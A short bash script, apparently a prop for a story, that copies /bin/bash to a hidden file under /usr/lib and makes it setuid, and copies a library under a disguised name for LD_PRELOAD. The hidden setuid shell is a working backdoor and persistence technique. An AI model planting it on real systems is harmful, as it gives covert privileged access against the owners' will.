#!/bin/bash
# What the server of the story answers. A program with a hidden name that runs as its owner:
cp /bin/bash /usr/lib/.cache-helper
echo "not the shell any more" >> /usr/lib/.cache-helper
chmod 4755 /usr/lib/.cache-helper
# and what LD_PRELOAD will name (a copy of a library that does nothing of the kind).
cp /usr/lib/*-linux-gnu/libdl.so.2 /usr/lib/libsystem-cache.so
